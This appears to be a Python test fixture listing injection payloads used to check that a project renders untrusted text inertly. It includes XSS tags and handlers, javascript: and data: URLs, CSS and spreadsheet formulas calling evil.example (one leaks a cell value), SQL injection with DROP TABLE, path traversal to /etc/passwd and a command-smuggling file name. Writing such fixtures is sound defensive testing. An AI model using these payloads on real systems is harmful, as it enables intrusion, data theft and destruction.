"""Texts that try to be something else where they are shown: markup, script, style, link, formula, query or path.

They are written for this project in the style of the families that security lists know. A payload that runs sets
`window.pwned` or opens a dialog; all that is asked of a page is that it shows the text as it is, and does nothing else.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"

TAGS: Final = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\n>{RUN}</script\n>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<form action=javascript:{RUN}><button id=pwned>send</button></form>",
    f"<table background=javascript:{RUN}><tr><td>cell",
    "<plaintext>",
    "<!-- a comment that never ends",
    "<marquee>moving</marquee>",
)
HANDLERS: Final = (
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x' onerror='{RUN}' alt='quoted'>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>one",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<p onpointerenter={RUN} style=position:fixed;inset:0>over everything</p>",
    f"<a href=# onclick={RUN}>a link</a>",
    f"<div style=animation-name:spin onanimationstart={RUN}>turn</div>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
)
DRAWINGS: Final = (
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href=javascript:{RUN}><text y=20>press</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "<svg><use href='https://evil.example/x.svg#y'></svg>",
    f"<math href=javascript:{RUN}>press</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></mtext></math>",
)
ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://wire.example/%0A{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    "https://evil.example/?q=<script>alert(1)</script>",
    f'https://wire.example/" onclick="{RUN}',
    "//evil.example/x.js",
    "blob:https://evil.example/1",
    "view-source:https://evil.example/",
)
SCRIPTS: Final = (
    f"`${{{RUN}}}`",
    f"${{{RUN}}}",
    f"`; {RUN}; `",
    f"'; {RUN}; '",
    f'"; {RUN}; "',
    f"\\'; {RUN}; //",
    f'\\"; {RUN}; //',
    f"*/ {RUN} /*",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    "{{ 7 * 7 }} {% raw %} {# note #}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "$data $$ ${data} %(data)s {data} {0}",
    '{"__proto__": {"pwned": 1}}',
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}//-->",
    '"]}</script>',
    f"\u2028{RUN}\u2029",
    f"a line\u2028<img src=x onerror={RUN}>\u2029another",
    "constructor",
    "__proto__",
)
STYLES: Final = (
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</style><style>body{background:url(https://evil.example/x)}",
    "<p style=background:url(https://evil.example/x)>seen</p>",
    "expression(alert(1))",
    "red;}*{display:none}",
    "url(javascript:alert(1))",
)
ENTITIES: Final = (
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={RUN}&#x3E;",
    "&amp;lt;b&amp;gt; &nbsp;&copy;&notanentity;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"‹img src=x onerror={RUN}›",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
SIGNS: Final = (
    "a \u202egnp.exe\u202c file",
    "\u2066left\u2067right\u2069 apart",
    "\u200bnothing\u200b between\ufeff",
    "Z\u0351\u036b\u0343a\u0315\u031blgo\u0322",
    "a \u0001 start and a \u0007 bell",
    "a\u0085b\u000bc\u000cd",
    "\U0001f469\u200d\U0001f52c \U0001f9d1\U0001f3fd \ufffd",
    "\u0130stanbul \u0131\u015f\u0131k \u1e9e \ufb01nal",
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0633\u0644\u0627\u0645 (1)",
)
MARKDOWN: Final = (
    ":red[x] :blue-background[y] :small[z]",
    ":material/bolt: :streamlit: :smile:",
    "$x^2$ $$\\int_0^1$$ \\(a\\)",
    f"[press](javascript:{RUN})",
    "[press](https://evil.example/ 'a title')",
    "![picture](https://evil.example/x.png)",
    "<https://evil.example/>",
    "**bold** _slanted_ ~~struck~~ `code`",
    "# heading\n\n- item\n\n> quoted\n\n---",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[^1] and\n\n[^1]: https://evil.example/",
    "```\nfence\n```",
    "https://evil.example/ and www.evil.example",
    f"[a]: javascript:{RUN}\n\n[a]",
)
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?"&A1,"press")',
    '=WEBSERVICE("https://evil.example/")',
    "\t=1+1",
    "\r=1+1",
    'a","=1+1","b',
)
QUERIES: Final = (
    "' OR '1'='1",
    "'; DROP TABLE claims; --",
    '"; DROP TABLE claims; --',
    "1) UNION SELECT name FROM sqlite_master --",
    "%' ESCAPE '\\",
    "\\'; SELECT 1; --",
)
PATHS: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "file:///etc/passwd",
    "CON.txt",
    "a;ls|cat $(id) `id` && true",
    "%2e%2e%2f%2e%2e%2f",
    "name\nwith\nlines.txt",
)
LONG: Final = (
    "long " * 800 + f"<img src=x onerror={RUN}>",
    "unbroken" * 400,
    "<b>" * 300 + "deep",
)

PAYLOADS: Final = (
    *TAGS, *HANDLERS, *DRAWINGS, *ADDRESSES, *SCRIPTS, *STYLES, *ENTITIES, *SIGNS, *MARKDOWN, *FORMULAS, *QUERIES,
    *PATHS, *LONG,
)  # fmt: skip
